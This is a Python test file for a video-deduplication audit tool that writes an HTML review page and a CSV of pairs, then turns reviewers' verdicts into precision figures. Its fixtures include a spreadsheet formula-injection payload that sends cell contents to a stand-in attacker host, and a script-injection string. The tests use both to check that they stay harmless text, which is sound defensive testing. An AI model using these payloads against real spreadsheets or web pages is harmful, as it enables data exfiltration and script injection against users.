import base64
import csv
import hashlib
import json
import re
import subprocess
from pathlib import Path

import pytest

from pipelines.__main__ import main
from pipelines.audit import PAGE, PAIRS, SAMPLE
from pipelines.judging.precision import VERDICTS
from pipelines.run import read_record, write_record
from tests.pipelines.finished_dataset import Post, write_finished
from tests.pipelines.test_report import HOSTILE, Page

ROOT = Path(__file__).parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)\r\n@SUM(1)'
POSTS = [
    *(Post(f"near{n}", "yoga", "duplicate", min_distance=35) for n in range(3)),
    *(Post(f"far{n}", "yoga", "duplicate", min_distance=3) for n in range(4)),
    Post(f"d{HOSTILE}", "yoga", "duplicate", target="bench", min_distance=41 - 1),
    Post(FORMULA, "yoga", "duplicate", min_distance=20),
    Post("clip", "yoga"),
]


@pytest.fixture(scope="module")
def out(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("finished") / "out"
    write_finished(folder, POSTS)
    (folder / ".lock").touch()
    assert main(["audit", "--out", str(folder), "--pairs", "50"]) == 0
    return folder


def rows(out: Path) -> list[dict[str, str]]:
    with open(out / PAIRS, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def judge(out: Path, *words: str) -> Path:
    """A file of verdicts on the first pairs of the list."""
    path = out.parent / "verdicts.csv"
    lines = (f"{row['pair']},{word}" for row, word in zip(rows(out), words, strict=False))
    path.write_text("\n".join(["pair,verdict", *lines]) + "\n")
    return path


def test_the_page_shows_every_pair_once_with_three_verdicts(out):
    page = Page((out / PAGE).read_text())
    assert page.tags["svg"] == page.tags["image"] == 2 * 9
    assert page.tags["button"] == 3 * 9 + 1
    ids = [value for _, name, value in page.attributes if name == "data-pair"]
    assert ids == [row["pair"] for row in rows(out)] == sorted(ids)
    assert "9 of 9 removals" in page.text
    assert "near : closest frame within 8 bits of the limit; 4 removals" in page.text


def test_the_page_runs_its_own_script_and_no_other_and_needs_no_network(out):
    content = (out / PAGE).read_text()
    page = Page(content)
    assert page.tags["script"] == 1
    assert not [name for _, name, _ in page.attributes if name.startswith("on")]
    sources = [value for _, name, value in page.attributes if name in ("src", "href", "action")]
    assert all(value.startswith("data:image/jpeg;base64,") for value in sources)
    script = re.search(r"<script>(.*?)</script>", content, re.DOTALL)[1]
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    (policy,) = [value for tag, _, value in page.attributes if "default-src" in (value or "")]
    assert policy.startswith("default-src 'none'; img-src data:;")
    assert f"script-src 'sha256-{digest}';" in policy


def test_what_strangers_wrote_stays_text(out):
    page = Page((out / PAGE).read_text())
    assert "d<script>alert('x')</script>" in page.text
    assert "=HYPERLINK(" in page.text


def test_the_list_survives_hostile_ids_and_holds_no_formula(out):
    listed = rows(out)
    assert len(listed) == 9
    assert {row["stratum"] for row in listed} == {"near", "middle", "far"}
    cells = [cell for row in listed for cell in row.values()]
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]
    assert len((out / PAIRS).read_text().splitlines()) == 10
    (hostile,) = [row for row in listed if "HYPERLINK" in row["video_id"]]
    assert hostile["video_id"].startswith("'=HYPERLINK(")


def test_the_same_dataset_gives_the_same_page(out):
    before = [(out / name).read_bytes() for name in (PAGE, PAIRS, SAMPLE)]
    assert main(["audit", "--out", str(out)]) == 0
    assert [(out / name).read_bytes() for name in (PAGE, PAIRS, SAMPLE)] == before


def test_verdicts_come_back_as_a_precision_in_card_and_report(out, capsys):
    stratum = {row["pair"]: row["stratum"] for row in rows(out)}
    words = ["different" if value == "near" else "same" for value in stratum.values()]
    path = judge(out, *words)
    assert main(["audit", "--out", str(out), "--verdicts", str(path)]) == 0
    said = capsys.readouterr().out.splitlines()
    assert said[0] == (
        "near (closest frame within 8 bits of the limit; 4 in all): 0 of 4 judged right, "
        "precision 0.0 % (all were judged)"
    )
    assert said[3].startswith("all removals, each group weighted by its size: precision 55.6 %")
    assert (
        said[4]
        == f"kept in {out}/audit/verdicts.json; `make report` puts it into the report and the card"
    )
    assert json.loads((out / VERDICTS).read_text())["overall"] == pytest.approx([5 / 9] * 3)


def test_a_list_filled_by_hand_is_read_too(out, capsys):
    filled = [{**row, "verdict": "same"} for row in rows(out)]
    path = out.parent / "filled.csv"
    with open(path, "w", newline="") as file:
        writer = csv.DictWriter(file, filled[0], delimiter=";")
        writer.writeheader()
        writer.writerows(filled)
    assert main(["audit", "--out", str(out), "--verdicts", str(path)]) == 0
    assert "precision 100.0 %" in capsys.readouterr().out


def test_what_does_not_fit_is_one_sentence(out, tmp_path, capsys):
    def refused(*words: str) -> str:
        assert main(["audit", "--out", *words]) == 1
        said = capsys.readouterr()
        assert (said.out, said.err.count("\n")) == ("", 1)
        return said.err

    strange = tmp_path / "verdicts.csv"
    strange.write_text("pair,verdict\n0000000000000000,same\n")
    assert "no pair of this audit" in refused(str(out), "--verdicts", str(strange))
    strange.write_text("pair,verdict\n")
    assert "holds no verdict yet" in refused(str(out), "--verdicts", str(strange))
    assert "at least 1 pair" in refused(str(out), "--pairs", "0")
    assert "holds no duplicates" in refused(str(tmp_path / "nowhere"))
    assert not (tmp_path / "nowhere").exists()


def test_verdicts_on_duplicates_that_are_not_there_any_more_are_refused(tmp_path, capsys):
    out = tmp_path / "out"
    write_finished(out, POSTS[:2])
    (out / ".lock").touch()
    words = ["audit", "--out", str(out), "--verdicts", str(tmp_path / "v.csv")]
    assert main(words) == 1
    assert "no pairs were drawn here" in capsys.readouterr().err
    assert main(["audit", "--out", str(out)]) == 0
    record = read_record("deduplicate", out)
    write_record(type(record)(**{**vars(record), "result_digest": "other"}), out)
    assert main(words) == 1
    assert "the duplicates have changed since the page was written" in capsys.readouterr().err
    (out / SAMPLE).write_text("{")
    assert main(words) == 1
    assert "cannot be read; run make audit without VERDICTS again" in capsys.readouterr().err


def test_a_dataset_without_a_duplicate_has_nothing_to_judge(tmp_path, capsys):
    out = tmp_path / "out"
    write_finished(out, POSTS[-1:])
    (out / ".lock").touch()
    assert main(["audit", "--out", str(out)]) == 1
    assert "no video was removed as a duplicate" in capsys.readouterr().err
    assert not (out / PAGE).exists()


def test_make_passes_the_number_and_the_verdicts_to_the_command():
    words = ["make", "--dry-run", "audit", "OUT=my out", "N=9", "VERDICTS=my verdicts.csv"]
    done = subprocess.run(words, cwd=ROOT, capture_output=True, text=True, check=True)
    command = 'python -m pipelines audit --out "my out" --pairs "9" --verdicts "my verdicts.csv"\n'
    assert command in done.stdout
